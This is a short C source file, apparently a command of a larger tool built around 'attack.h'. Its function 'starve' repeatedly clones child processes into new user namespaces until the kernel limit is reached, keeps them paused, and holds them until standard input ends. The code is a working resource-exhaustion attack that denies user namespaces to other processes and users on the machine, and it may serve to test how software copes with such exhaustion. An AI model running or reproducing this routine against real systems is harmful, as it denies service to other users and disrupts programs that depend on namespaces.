// Takes what others need.
#include "attack.h"

#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

// starve: holds user namespaces until there can be no more, says why, and holds them until stdin ends.
int starve_command(int count, char **arguments) {
  (void)count, (void)arguments;
  long holder;
  while ((holder = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)) > 0) continue;
  if (holder == 0) {
    prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
    for (;;) pause();
  }
  tell("one more", holder);
  char byte;
  while (read(0, &byte, 1) > 0) continue;
  return 0;
}
